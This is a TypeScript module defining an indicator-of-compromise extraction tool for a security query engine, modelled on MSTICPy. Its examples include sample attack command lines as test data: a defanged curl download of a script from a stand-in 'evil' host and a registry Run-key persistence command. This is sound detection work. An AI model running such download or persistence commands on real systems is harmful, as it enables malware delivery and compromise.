import { quoteText } from '../../base/index.ts';
import {
  extractIocs,
  type IocOptions,
  type IocType,
  iocExpression,
  iocTypes,
} from '../../extract/index.ts';
import { defineEach, type EachTool } from '../define-tool.ts';

const input = {
  text: {
    type: 'string',
    about: 'A command line, a script, a report or any other text.',
    usual: ['CommandLine', 'ProcessCommandLine', 'ScriptBlockText', 'Message'],
  },
} as const;

const parameters = {
  ioc_types: {
    type: 'dynamic',
    about:
      'Only these kinds of indicators, such as `dynamic(["registry_key"])`; where none is named all save windows_path, linux_path and registry_key, as MSTICPy has no paths either.',
    default: [] as readonly string[],
    oneOf: iocTypes as readonly string[],
  },
  include_paths: {
    type: 'bool',
    about: 'Also paths and registry keys, of which any command line has some.',
    default: false,
  },
  ignore_tlds: {
    type: 'bool',
    about: 'Takes names for domains whatever they end in, as `files.internal` and `cmd.exe`.',
    default: false,
  },
  defanged: {
    type: 'bool',
    about: 'Finds `evil[.]com`, `hxxp://`, `a[at]b` and their like as well.',
    default: true,
  },
  msticpy: {
    type: 'bool',
    about: "Matches exactly as MSTICPy's expressions do, faults included.",
    default: false,
  },
} as const;

const output = {
  ioc_type: {
    type: 'string',
    about:
      'The kind: ipv4, ipv6, dns, url, email, md5_hash, sha1_hash, sha256_hash, sha512_hash, windows_path, linux_path, registry_key, cve, attack_id, btc_wallet, eth_wallet, ltc_wallet, doge_wallet or trx_wallet.',
  },
  observable: { type: 'string', about: 'The indicator as it stands in the text.' },
  refanged: {
    type: 'string',
    about: 'The indicator as a machine reads it: `evil.com` for `evil[.]com`.',
  },
  start: { type: 'long', about: 'Where it first stands, in letters (UTF-16 units) from 0.' },
  end: { type: 'long', about: 'The place behind its last letter.' },
} as const;

interface Settings {
  readonly ioc_types: unknown;
  readonly include_paths: boolean;
  readonly ignore_tlds: boolean;
  readonly defanged: boolean;
  readonly msticpy: boolean;
}

function optionsOf(settings: Settings): IocOptions {
  return {
    types: settings.ioc_types as readonly IocType[],
    includePaths: settings.include_paths,
    ignoreTlds: settings.ignore_tlds,
    defanged: settings.defanged,
    msticpy: settings.msticpy,
  };
}

const extractIocsTool: EachTool<typeof input, typeof parameters, typeof output> = defineEach({
  name: 'extract_iocs',
  about:
    'The indicators of compromise in a text, each once, with their place: addresses, names, URLs, hashes and more.',
  source:
    'msticpy.transform.iocextract.IoCExtract.extract_df, whose rows msticpy=true gives exactly. Differs otherwise: addresses are real ones (not 12:30:45 or 999.999.999.999); names are whole (not run.ps of run.ps1), in any script and in punycode; a URL ends before quotes and brackets around it and before |sh or ;chmod; a Windows path ends before what parts a list, a command or a sentence (C:\\a;C:\\b) and starts with its variable (%TEMP%\\a); what is part of a URL or an email address is nothing else besides; a Linux path ends at a blank; a registry key is no path; a second hash beside a first is found.',
  passesOver:
    'Paths and registry keys are left out unless ioc_types or include_paths asks for them.',
  cost: 'Linear in the text, whatever is in it; of a text the first 1,048,576 letters and 10,000 indicators.',
  input,
  parameters,
  output,
  entities: ['Process', 'IpAddress', 'Dns', 'Url', 'FileHash'],
  worth: ([text], settings) => {
    const expression = iocExpression(optionsOf(settings));
    return expression && `regexp_matches(${text}, ${quoteText(expression)}, 'i')`;
  },
  each: ({ text }, settings) =>
    extractIocs(text, optionsOf(settings)).map(({ type, ...found }) => ({
      ioc_type: type,
      ...found,
    })),
  examples: [
    {
      query:
        'datatable(CommandLine: string)["curl hxxp://evil[.]example[.]com/a.sh -o /tmp/a", "ping -n 3 10.1.2.3", "time 12:30:45"] | invoke extract_iocs() | project ioc_type, refanged, start, end',
      rows: [
        ['url', 'http://evil.example.com/a.sh', 5, 37],
        ['dns', 'evil.example.com', 12, 32],
        ['ipv4', '10.1.2.3', 10, 18],
      ],
    },
    {
      query:
        'print t = "reg add HKLM\\\\Software\\\\Run /d C:\\\\Temp\\\\a.exe" | invoke extract_iocs(t, ioc_types = dynamic(["windows_path", "registry_key"])) | project ioc_type, observable',
      rows: [
        ['registry_key', 'HKLM\\Software\\Run'],
        ['windows_path', 'C:\\Temp\\a.exe'],
      ],
    },
    {
      query:
        'print t = "time 12:30:45" | invoke extract_iocs(t, msticpy = true) | project ioc_type, observable',
      rows: [['ipv6', '12:30:45']],
    },
  ],
});

export default extractIocsTool;
